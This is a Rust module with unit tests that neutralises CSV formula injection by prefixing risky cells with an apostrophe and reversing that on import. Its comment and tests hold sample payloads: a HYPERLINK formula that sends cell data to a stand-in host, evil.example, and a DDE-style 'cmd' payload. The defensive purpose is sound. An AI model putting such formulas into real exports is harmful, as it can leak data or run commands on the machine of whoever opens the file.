//! CSV cells a spreadsheet would run as a formula. A text that starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return (and is not a plain
//! number) is written with a leading apostrophe, which spreadsheets show as
//! text and never evaluate: a proposal titled
//! `=HYPERLINK("https://evil.example/?"&B2;"Dettagli")` stays a title.
//! [`restore`] undoes it exactly, for the files Piazza reads back (the DUP
//! import), so export and import still round-trip. JSON is never touched.

use std::borrow::Cow;

/// What Piazza's CSV files say about it (README and metadata).
pub const NOTE: &str = "Nei file CSV, un testo che inizia con =, +, -, @, una tabulazione o \
     un ritorno a capo (e non è un numero) è preceduto da un apostrofo, perché un foglio di \
     calcolo non lo esegua come formula; i file JSON riportano il testo esatto.";

fn triggers(text: &str) -> bool {
    matches!(
        text.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    ) && text.replace(',', ".").parse::<f64>().is_err()
}

/// Whether `text` is written with one more apostrophe: it would run as a
/// formula, or it is apostrophes before such a text (so [`restore`] can
/// tell a written apostrophe from one typed by a person).
fn escaped(text: &str) -> bool {
    triggers(text.trim_start_matches('\''))
}

/// The cell as written to a CSV file.
pub fn neutralize(text: &str) -> Cow<'_, str> {
    if escaped(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text a [`neutralize`]d cell came from.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if escaped(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_come_back_exactly() {
        for (typed, written) in [
            (
                "=HYPERLINK(\"https://evil.example/?\"&B2;\"Dettagli\")",
                "'=HYPERLINK(\"https://evil.example/?\"&B2;\"Dettagli\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=già protetto", "''=già protetto"),
            ("-5", "-5"),
            ("-1250,5", "-1250,5"),
            ("+39 011 123", "'+39 011 123"),
            ("Un titolo qualsiasi", "Un titolo qualsiasi"),
            ("'apostrofo", "'apostrofo"),
            ("", ""),
        ] {
            assert_eq!(neutralize(typed), written, "{typed:?}");
            assert_eq!(restore(written), typed, "{written:?}");
        }
    }
}
